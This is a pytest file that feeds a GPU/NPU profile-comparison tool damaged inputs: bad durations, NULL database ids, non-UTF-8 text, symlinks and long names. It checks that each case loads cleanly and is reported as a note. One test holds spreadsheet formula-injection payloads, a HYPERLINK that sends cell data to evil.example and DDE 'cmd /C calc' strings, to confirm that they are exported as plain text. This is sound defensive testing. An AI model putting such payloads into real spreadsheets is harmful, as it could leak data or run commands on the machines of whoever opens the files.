"""Odd inputs that are usable: the tool must give a clean result and say what it made of them.

The decision for each case is in its test's docstring. The rule behind them: refusing a whole
profile is right only when nothing trustworthy can be read from it (``test_errors``); a profile
that is merely incomplete or strange is read, and every guess the loader had to make is reported
as a note (``info`` lists them, ``export`` prints them and puts them in the README sheet).
"""

from __future__ import annotations

import json
import os
import re
import sqlite3
import zipfile
from pathlib import Path

import openpyxl
import orjson
import pytest

from perfcmp_core.export.sheet_xml import CELL_CHARS
from perfcmp_core.load import load_profile
from perfcmp_core.options import LoadOptions

from .cases import (
    DB_COMP,
    GPU_BASE,
    GPU_COMP,
    TEXT_BASE,
    TEXT_COMP,
    WORKBOOK_GLOB,
    Run,
    db_of,
    db_run,
    gpu_copy,
    out_file,
    replace_bytes,
    run_cli,
    set_cells,
    sql,
    text_run,
)

NO_CACHE = LoadOptions(use_cache=False)


def _ok(run: Run) -> Run:
    assert run.code == 0, run.err
    assert run.err == "" and "Traceback" not in run.out
    return run


def _info(capsys: pytest.CaptureFixture[str], path: Path) -> dict:
    return json.loads(_ok(run_cli(capsys, "info", path, "--json")).out)


def _export(capsys: pytest.CaptureFixture[str], base: Path, comp: Path, out: Path,
            *options: str) -> tuple[Run, Path | None]:
    run = _ok(run_cli(capsys, "export", base, comp, "-o", out, *options))
    books = sorted(out.glob(WORKBOOK_GLOB)) if out.exists() else []
    assert len(books) <= 1
    return run, books[0] if books else None


def _string_cells(book: Path) -> dict[str, list[str]]:
    """Every text cell of every sheet (openpyxl: data type "s"), by sheet."""
    wb = openpyxl.load_workbook(book, read_only=True)
    try:
        return {ws.title: [c.value for row in ws.iter_rows() for c in row
                           if getattr(c, "data_type", None) == "s" and isinstance(c.value, str)]
                for ws in wb.worksheets}
    finally:
        wb.close()


# ------------------------------------------------------------------------------ durations


def test_kernel_details_na_empty_and_negative_durations(tmp_path: Path,
                                                        capsys: pytest.CaptureFixture[str]) -> None:
    """Clean result with notes. ``N/A``, empty and negative ``Duration(us)`` cells are counted as
    0 µs and counted in a note; the rows are kept (their start times still link them to trace
    tasks, and dropping them would shift every kernel count)."""
    clean = load_profile(str(TEXT_COMP), NO_CACHE)
    run = text_run(tmp_path)
    kd = out_file(run, "kernel_details.csv")
    set_cells(kd, "Duration(us)", {0: "N/A", 1: "", 2: "-5.5", 3: "  -0.001\t"})
    info = _info(capsys, run)
    assert "kernel_details.csv: 2 row(s) without a Duration(us) are counted as 0 µs" in info["notes"]
    assert "kernel_details.csv: 2 row(s) with a negative Duration(us) are counted as 0 µs" in info["notes"]
    profile = load_profile(str(run), NO_CACHE)
    assert len(profile.kernels) == len(clean.kernels)
    assert int(profile.kernels["has_details"].sum()) == int(clean.kernels["has_details"].sum())
    assert (profile.kernels["dur_ns"] >= 0).all()


def test_trace_view_na_and_negative_durations(tmp_path: Path,
                                              capsys: pytest.CaptureFixture[str]) -> None:
    """Clean result with a note: the events are kept with duration 0 (start intact, so they
    still nest and link), never with a negative length that would make self times go up."""
    run = text_run(tmp_path)
    tv = out_file(run, "trace_view.json")
    events = orjson.loads(tv.read_bytes())
    ops = [e for e in events if e.get("ph") == "X" and e.get("cat") == "cpu_op"
           and e["name"] == "aten::to"]
    ops[0]["dur"], ops[1]["dur"], ops[2]["dur"] = "N/A", -12.5, None
    tv.write_bytes(orjson.dumps(events))
    info = _info(capsys, run)
    assert ("trace_view.json: 3 event(s) with a missing, non-numeric or negative dur are counted "
            "as 0 µs") in info["notes"]
    profile = load_profile(str(run), NO_CACHE)
    starts = {int(e["ts"].replace(".", "")) for e in ops[:3]}  # three decimals: µs → ns
    hit = profile.ops[profile.ops["start_ns"].isin(starts) & (profile.ops["name"] == "aten::to")]
    assert len(hit) == 3 and (hit["end_ns"] == hit["start_ns"]).all()


def test_gpu_negative_and_text_durations(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Same decision for a GPU trace: kept, zero length, one note."""
    p = gpu_copy(tmp_path)
    lines = p.read_bytes().split(b"\n")
    hits = [i for i, line in enumerate(lines) if b'"name": "aten::addmm"' in line][:2]
    for i, value in zip(hits, (b"-3.25", b'"N/A"')):
        lines[i] = re.sub(rb'"dur": [0-9.]+', b'"dur": ' + value, lines[i])
    p.write_bytes(b"\n".join(lines))
    info = _info(capsys, p)
    assert "2 events with a negative or non-numeric dur are counted as 0 µs" in info["notes"]
    ops = load_profile(str(p), NO_CACHE).ops
    addmm = ops[ops["name"] == "aten::addmm"]
    assert int((addmm["end_ns"] == addmm["start_ns"]).sum()) == 2


def test_trace_cut_before_an_enqueue(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Clean result: when the trace lacks the Enqueue of one ``cann::`` allocation (a run whose
    trace starts mid-queue), that record has no placement (-1) and every other placement stays
    exact to the ns (a lookup with misses must not round them through float64)."""
    clean = load_profile(str(TEXT_COMP), NO_CACHE).op_memory
    cann = clean[clean["name"].str.startswith("cann::")]
    assert len(cann) >= 2 and (cann["place_ns"] % 256 != 0).any()
    run = text_run(tmp_path)
    tv = out_file(run, "trace_view.json")
    events = orjson.loads(tv.read_bytes())
    placed_at = {e["args"]["correlation_id"]: int(e["ts"].replace(".", "")) for e in events
                 if e.get("cat") == "enqueue"}
    lost = next(c for c, t in placed_at.items() if t == int(cann["place_ns"].iloc[0]))
    tv.write_bytes(orjson.dumps([e for e in events if not (
        e.get("cat") == "enqueue" and e["args"]["correlation_id"] == lost)]))
    _info(capsys, run)
    damaged = load_profile(str(run), NO_CACHE).op_memory
    after = damaged[damaged["name"].str.startswith("cann::")]
    assert after["place_ns"].iloc[0] == -1
    assert after["place_ns"].iloc[1:].tolist() == cann["place_ns"].iloc[1:].tolist()


# ------------------------------------------------------------------------------ Db


def test_db_with_missing_tables(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Clean result with a note naming the absent tables (schemas differ between torch_npu,
    MindSpore and msMonitor versions, so an absent table is not an error)."""
    run = db_run(tmp_path)
    sql(db_of(run), "DROP TABLE TASK", "DROP TABLE STEP_TIME", "DROP TABLE OP_MEMORY")
    info = _info(capsys, run)
    assert any(n.startswith("tables absent from the Db (their parts are empty): TASK, ")
               and "STEP_TIME" in n for n in info["notes"])
    assert info["counts"]["kernels"] == 0 and info["counts"]["comm_ops"] > 0
    assert [s["step"] for s in info["steps"]] == [1, 2, 3]  # from the ProfilerStep#N ops
    assert "STEP_TIME absent or empty: steps taken from ProfilerStep#N ops" in info["notes"]
    kernels = load_profile(str(run), NO_CACHE).kernels
    assert len(kernels) == info["counts"]["comm_ops"] and kernels["is_comm"].all()


def test_db_with_null_ids(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Clean result: NULL ids (they crash the reference, bug B4) mean "no link" (-1); NULL
    times drop just those rows; NULL names read as empty text."""
    clean = load_profile(str(DB_COMP), NO_CACHE)
    run = db_run(tmp_path)
    sql(db_of(run),
        "UPDATE TASK SET connectionId = NULL",
        "UPDATE TASK SET startNs = NULL WHERE rowid % 10 = 0",
        "UPDATE PYTORCH_API SET connectionId = NULL, globalTid = NULL WHERE rowid % 2 = 0",
        "UPDATE COMMUNICATION_OP SET connectionId = NULL, groupName = NULL",
        "UPDATE COMMUNICATION_TASK_INFO SET opId = NULL",
        "UPDATE CONNECTION_IDS SET connectionId = NULL WHERE rowid % 3 = 0",
        "UPDATE STRING_IDS SET value = NULL WHERE value LIKE 'aten::%'")
    _info(capsys, run)
    profile = load_profile(str(run), NO_CACHE)
    profile.check()
    assert (profile.kernels["link"] == -1).all() and (profile.kernels["op_row"] == -1).all()
    dropped = len(clean.kernels) - len(profile.kernels)
    assert 0 < dropped < len(clean.kernels) // 5
    assert (profile.comm_ops["group"] == "").all() and (profile.comm_tasks["op_row"] == -1).all()
    assert not profile.ops["name"].str.startswith("aten::").any()


def test_db_times_that_are_text_or_reversed(tmp_path: Path,
                                            capsys: pytest.CaptureFixture[str]) -> None:
    """Clean result with a note: a task whose end time is text is dropped, as a NULL one is; a
    task that ends before it starts is kept with duration 0 and counted. The other times of the
    column stay exact to the ns (a mixed column must not go through float64)."""
    run = db_run(tmp_path)
    db = db_of(run)
    sql(db, "UPDATE TASK SET endNs = 'abc' WHERE rowid % 3 = 0",
        "UPDATE TASK SET endNs = startNs - 5 WHERE rowid % 3 = 1")
    con = sqlite3.connect(db)
    try:
        kept = {r[0] for r in con.execute("SELECT startNs FROM TASK WHERE rowid % 3 != 0")}
        reversed_rows = con.execute("SELECT count(*) FROM TASK WHERE rowid % 3 = 1").fetchone()[0]
    finally:
        con.close()
    info = _info(capsys, run)
    assert f"rows that end before they start are counted as 0 ns: TASK {reversed_rows}" in info["notes"]
    tasks = load_profile(str(run), NO_CACHE).kernels
    tasks = tasks[tasks["task_type"] != ""]  # TASK rows (HCCL ops have no task type)
    assert set(tasks["start_ns"]) == kept and (tasks["dur_ns"] >= 0).all()
    assert int((tasks["dur_ns"] == 0).sum()) == reversed_rows


def test_db_with_text_that_is_not_utf8(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Clean result with a note: one undecodable string (the reference and a plain sqlite3 read
    fail on the whole file) is shown with U+FFFD instead."""
    run = db_run(tmp_path)
    sql(db_of(run), "UPDATE STRING_IDS SET value = CAST(X'6174656E3A3A6D6DFF' AS TEXT) "
                    "WHERE value = 'aten::mm'")  # 'aten::mm' + byte 0xFF
    info = _info(capsys, run)
    assert "some text in the Db is not valid UTF-8; shown with U+FFFD replacement characters" \
        in info["notes"]
    names = set(load_profile(str(run), NO_CACHE).ops["name"])
    assert "aten::mm\ufffd" in names and "aten::mm" not in names


def test_db_timestamps_near_the_int64_limit(tmp_path: Path,
                                            capsys: pytest.CaptureFixture[str]) -> None:
    """Clean result: a corrupted end time in year 2116 (2**62 ns) is a valid integer, so the
    loader keeps it; the comparison must still finish although the per-class sums pass 2**63
    (found by the fuzz tests: OverallMetrics summed them into an int64 array)."""
    run = db_run(tmp_path)
    sql(db_of(run), "UPDATE TASK SET endNs = 4611686018427387904 WHERE rowid % 3 = 0")
    result, _ = _export(capsys, GPU_BASE, run, tmp_path / "out")
    assert "The comparison result file has been generated" in result.out


# ------------------------------------------------------------------------------ zero kernels


def test_gpu_profile_with_zero_kernels(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Clean result with notes: a trace recorded without ProfilerActivity.CUDA still has host
    ops (API and operator comparisons work); the device-time comparisons say why they are
    empty instead of showing zeros as if they were measured."""
    p = tmp_path / "in" / "cpu_only.pt.trace.json"
    p.parent.mkdir()
    doc = orjson.loads(GPU_COMP.read_bytes())
    doc["traceEvents"] = [e for e in doc["traceEvents"]
                          if e.get("cat") not in ("kernel", "gpu_memcpy", "gpu_memset")]
    p.write_bytes(orjson.dumps(doc))
    info = _info(capsys, p)
    assert info["counts"]["kernels"] == 0 and info["counts"]["host_ops"] > 0
    assert ("the trace has no kernel, gpu_memcpy or gpu_memset events (was the profiler run with "
            "ProfilerActivity.CUDA?)") in info["notes"]
    result, book = _export(capsys, GPU_BASE, p, tmp_path / "out")
    assert f"note: OverallMetrics skipped: no device activity (E2E time is 0) in {p}" in result.out
    assert book is not None and "ApiCompare" in openpyxl.load_workbook(book, read_only=True).sheetnames


def test_npu_trace_view_with_no_events(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Clean result with notes: ``[]`` is a trace of nothing (a run stopped before its first
    step), not a damaged file."""
    run = text_run(tmp_path)
    out_file(run, "trace_view.json").write_text("[]")
    info = _info(capsys, run)
    assert info["counts"]["host_ops"] == 0 and info["steps"] == []
    assert "no Ascend Hardware process in trace_view.json: no device tasks" in info["notes"]


# ------------------------------------------------------------------------------ requested switches


@pytest.mark.parametrize(("options", "reason"), [
    (("--enable-kernel-compare",), "KernelCompare needs NPU kernel details on both sides (base is GPU)"),
    (("--enable-kernel-compare", "--use-kernel-type"), "no op statistics on either side"),
])
def test_switch_the_kinds_cannot_serve(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                       options: tuple[str, ...], reason: str) -> None:
    """Exit 0 and the reason in the output: two GPU traces cannot feed the NPU-only kernel
    comparisons (KernelCompare / KernelTypeCompare). Not exit 2: the inputs are fine, and the same
    command on NPU profiles works. The kernel-class comparisons serve every pair, so the workbook
    holds those (docs/matching.md)."""
    result, book = _export(capsys, GPU_BASE, GPU_COMP, tmp_path / "out", *options)
    assert f"note: {reason}" in result.out
    assert book is not None
    assert openpyxl.load_workbook(book, read_only=True).sheetnames == ["KernelClassCompare", "KernelOpCompare",
                                                                       "Advisor", "README"]


# ------------------------------------------------------------------------------ links and names


def test_symlink_pointing_outside_is_reported(tmp_path: Path,
                                              capsys: pytest.CaptureFixture[str]) -> None:
    """Clean result with a note: a copied folder whose kernel_details.csv links into another
    tree is read (the owner and size checks apply to the target), and the note says where the
    data really comes from; so does a given path that is itself a link."""
    run = text_run(tmp_path / "in")
    kd = out_file(run, "kernel_details.csv")
    elsewhere = tmp_path / "elsewhere" / "kernel_details.csv"
    elsewhere.parent.mkdir()
    kd.rename(elsewhere)
    kd.symlink_to(elsewhere)
    link = tmp_path / "latest"
    link.symlink_to(run)
    info = _info(capsys, link)
    assert f"{link} is a symbolic link to {run}" in info["notes"]
    note = f"{kd} is a symbolic link to {elsewhere}, outside {run}"
    assert note in info["notes"]
    assert info["counts"]["kernel_details_rows"] > 0
    result, book = _export(capsys, TEXT_BASE, run, tmp_path / "out")  # the headless user sees it
    assert f"note: comparison: {note}" in result.out.splitlines()
    assert f"comparison: {note}" in _string_cells(book)["README"]


def _renamed_gpu(tmp_path: Path, names: dict[bytes, bytes]) -> Path:
    """A GPU comparison trace with host-op names replaced (JSON-escaped bytes)."""
    p = gpu_copy(tmp_path / "in")
    for old, new in names.items():
        replace_bytes(p, b'"name": "' + old + b'"', b'"name": "' + new + b'"')
    return p


def test_names_with_newlines_reach_the_workbook_intact(tmp_path: Path,
                                                       capsys: pytest.CaptureFixture[str]) -> None:
    """Clean result: a newline inside an op name is kept as text in its cell (never splits a
    row or a line of the error format); a newline in a folder name is kept in the README."""
    (tmp_path / "in").mkdir()
    comp = _renamed_gpu(tmp_path, {b"aten::addmm": b"aten::addmm\\nfused\\r\\nx"})
    folder = tmp_path / "in" / "exp\n7"
    folder.mkdir()
    comp = comp.rename(folder / comp.name)
    _, book = _export(capsys, GPU_BASE, comp, tmp_path / "out")
    cells = _string_cells(book)
    assert "aten::addmm\nfused\r\nx" in cells["ApiCompare"]
    assert str(comp) in cells["README"]


def test_very_long_names(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Clean result: a 40,000-character op name is cut to Excel's 32,767-character cell limit
    with a visible marker (Excel refuses longer cells); a 250-character folder name is fine."""
    (tmp_path / "in").mkdir()
    long_name = "aten::addmm_" + "x" * 40_000
    comp = _renamed_gpu(tmp_path, {b"aten::addmm": long_name.encode()})
    folder = tmp_path / "in" / ("f" * 250)
    folder.mkdir()
    comp = comp.rename(folder / comp.name)
    _, book = _export(capsys, GPU_BASE, comp, tmp_path / "out")
    cut = [v for v in _string_cells(book)["ApiCompare"] if v.startswith("aten::addmm_x")]
    assert cut
    for value in cut:
        marker = re.search(r"…\[truncated (\d+) chars\]$", value)
        assert len(value) == CELL_CHARS and marker is not None
        kept = len(value) - len(marker.group(0))
        assert long_name.startswith(value[:kept]) and int(marker.group(1)) == len(long_name) - kept


FORMULAS = {
    b"aten::addmm": b'=HYPERLINK(\\"http://evil.example/?\\"&A1,\\"click\\")',
    b"aten::mm": b"+cmd|' /C calc'!A0",
    b"aten::add": b"-2+3",
    b"aten::gelu": b"@SUM(1+1)*cmd|' /C calc'!A0",
}


def test_formula_like_names_stay_text(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Clean result: names that spreadsheet programs would evaluate (``=``, ``+``, ``-``, ``@``)
    are written as inline-string cells, so they show as text and never run; the package holds
    no formula element at all."""
    (tmp_path / "in").mkdir()
    comp = _renamed_gpu(tmp_path, FORMULAS)
    _, book = _export(capsys, GPU_BASE, comp, tmp_path / "out")
    expected = {json.loads(b'"' + v + b'"') for v in FORMULAS.values()}
    found = set(_string_cells(book)["ApiCompare"])
    assert expected <= found
    with zipfile.ZipFile(book) as z:
        sheets = [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets and not any(re.search(rb"<f[ >]", xml) for xml in sheets)
    assert any(b'<t xml:space="preserve">=HYPERLINK(' in xml for xml in sheets)


def test_folder_name_that_is_not_utf8(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Clean result: a name in another encoding (copied from a GBK machine, say) loads; ``info``
    prints it escaped and ``info --json`` keeps it round-trippable (``\\udcff``)."""
    name = os.fsdecode(b"run_\xff\xfe_ascend_pt")
    run = text_run(tmp_path, name)
    text = _ok(run_cli(capsys, "info", run)).out
    assert "run_\\udcff\\udcfe_ascend_pt" in text  # stdout was strict UTF-8: escaped, not failed
    info = _info(capsys, run)
    assert info["path"] == str(run) and os.fsencode(info["path"]).endswith(b"run_\xff\xfe_ascend_pt")


def test_json_with_nan_tokens(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Clean result with a note: traces re-saved by Python's json module may hold NaN/Infinity,
    which strict JSON parsers reject."""
    p = gpu_copy(tmp_path)
    replace_bytes(p, b'"Python parent id": null', b'"Python parent id": NaN')
    info = _info(capsys, p)
    assert "the trace contains NaN/Infinity values (not standard JSON); read anyway" in info["notes"]


def test_trace_events_that_are_not_objects(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Clean result with a note: stray values in traceEvents are skipped, the events kept."""
    p = tmp_path / "t.pt.trace.json"
    doc = orjson.loads(GPU_COMP.read_bytes())
    doc["traceEvents"][5:5] = [1, "x", None, [2]]
    p.write_bytes(orjson.dumps(doc))
    info = _info(capsys, p)
    assert "4 traceEvents entries are not objects; ignored" in info["notes"]
    assert info["counts"]["kernels"] > 0


@pytest.mark.parametrize("path", [TEXT_BASE, TEXT_COMP, DB_COMP, GPU_COMP], ids=lambda p: p.name)
def test_undamaged_fixtures_carry_none_of_these_notes(path: Path,
                                                      capsys: pytest.CaptureFixture[str]) -> None:
    """The fixtures the cases above damage load without any of their notes, so each note above
    is caused by its damage."""
    notes = _info(capsys, path)["notes"]
    assert not [n for n in notes if any(w in n for w in ("counted as 0", "UTF-8", "symbolic",
                                                           "absent", "not objects", "NaN"))]
